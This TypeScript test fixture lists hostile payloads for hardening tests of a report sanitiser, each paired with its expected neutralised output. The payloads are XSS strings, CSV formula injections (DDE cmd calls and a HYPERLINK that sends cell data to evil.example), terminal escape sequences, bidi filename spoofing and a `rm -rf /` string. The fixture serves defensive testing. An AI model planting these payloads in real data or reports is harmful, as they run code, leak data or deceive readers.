/**
 * The hostile payload set: text that someone who can edit a security group
 * (its name, description, tags, or a rule's description) might write, to
 * attack whoever reads a report of it. Each payload says what a reader must
 * see instead of what it would do: `line` where account text sits on one
 * line (table, Markdown, email, pages), `cell` where CSV keeps line breaks.
 * Both are written out by hand, not computed by the sanitiser under test.
 *
 * Every test of `test/hardening/` and the browser and dashboard tests over
 * `hostileDemoStore` use this one set.
 */

export type PayloadKind = 'html' | 'markdown' | 'csv' | 'terminal' | 'text';

export interface Payload {
  /** A short name, used as the test case's name. */
  readonly name: string;
  readonly kind: PayloadKind;
  /** The text as the account holds it. */
  readonly raw: string;
  /** What a reader sees on one line: controls and escape sequences gone, line breaks as spaces. */
  readonly line: string;
  /** What a CSV cell holds before formula neutralising: tab, CR and LF kept, other controls gone. */
  readonly cell: string;
}

const ESC = '\u001b';

/** A payload whose text is shown as it is: no controls in it. */
function plain(name: string, kind: PayloadKind, raw: string): Payload {
  return { name, kind, raw, line: raw, cell: raw };
}

const LONG = `${'lorem ipsum '.repeat(800)}<b>the end</b>`;

export const PAYLOADS: readonly Payload[] = [
  plain(
    'img onerror in a broken attribute',
    'html',
    `"'><img src=x onerror="window.__hostile='img'">`,
  ),
  plain(
    'end of the JSON island',
    'html',
    `</script><script>window.__hostile='island'</script><!--<script>`,
  ),
  plain(
    'svg onload and a javascript: link',
    'html',
    `<svg onload="window.__hostile='svg'"><a href="javascript:window.__hostile='a'">open</a></svg>`,
  ),
  plain('javascript: URL', 'html', `javascript:window.__hostile='url'`),
  plain(
    'Markdown link, image, autolink and reference',
    'markdown',
    '[docs](https://evil.example/) ![pixel](https://evil.example/p.png) <https://evil.example/a> [ref][1]',
  ),
  {
    name: 'Markdown heading, table and quote on new lines',
    kind: 'markdown',
    raw: '# Heading\n| a | b |\n|---|---|\n> quoted',
    line: '# Heading | a | b | |---|---| > quoted',
    cell: '# Heading\n| a | b |\n|---|---|\n> quoted',
  },
  plain(
    'Markdown code, emphasis, escapes and entities',
    'markdown',
    '`rm -rf /` **bold** _it_ ~~gone~~ \\| C:\\temp &lt;b&gt; &#60;i&#62;',
  ),
  plain('DDE formula', 'csv', `=cmd|' /C calc'!A0`),
  plain(
    'plus formula with quotes and commas',
    'csv',
    '+HYPERLINK("https://evil.example/?d="&A1,"details")',
  ),
  plain('minus formula', 'csv', `-2+3+cmd|' /C calc'!A0`),
  plain('at formula', 'csv', `@SUM(1+9)*cmd|' /C calc'!A0`),
  { name: 'tab before a formula', kind: 'csv', raw: '\t=1+2', line: ' =1+2', cell: '\t=1+2' },
  { name: 'CR before a formula', kind: 'csv', raw: '\r=1+2', line: ' =1+2', cell: '\r=1+2' },
  {
    name: 'CSI: clear screen, cursor, colour, alternate screen',
    kind: 'terminal',
    raw: `${ESC}[2J${ESC}[H${ESC}[31mred alert${ESC}[0m${ESC}[?1049h done`,
    line: 'red alert done',
    cell: 'red alert done',
  },
  {
    name: 'OSC 8 hyperlink and window title',
    kind: 'terminal',
    raw: `${ESC}]8;;https://evil.example/${ESC}\\click me${ESC}]8;;${ESC}\\ ${ESC}]0;pwned${'\u0007'} after`,
    line: 'click me  after',
    cell: 'click me  after',
  },
  {
    name: 'ESC c reset, 8-bit CSI and OSC, NEL, C0 and DEL',
    kind: 'terminal',
    raw: `before${ESC}cafter\u009b2J\u009d0;title\u009c\u0085\u0007\u0008\u0000\u007f end`,
    line: 'beforeafter  end',
    cell: 'beforeafter end',
  },
  {
    name: 'bidi overrides and isolates',
    kind: 'terminal',
    raw: 'invoice\u202egnp.exe\u202c \u2066isolate\u2069 \u200fmark\u200e \u061cend',
    line: 'invoicegnp.exe isolate mark end',
    cell: 'invoicegnp.exe isolate mark end',
  },
  {
    name: 'line breaks of every kind',
    kind: 'text',
    raw: 'one\ntwo\r\nthree\rfour\u2028five\u2029six\u000bseven\u000ceight',
    line: 'one two  three four\u2028five\u2029six seven eight',
    cell: 'one\ntwo\r\nthree\rfour\u2028five\u2029sixseveneight',
  },
  plain('a very long string', 'text', LONG),
  plain('characters outside the BMP', 'text', 'dev 😈 𝔈𝔳𝔦𝔩 𠜎𠜱 👩‍💻 team'),
];
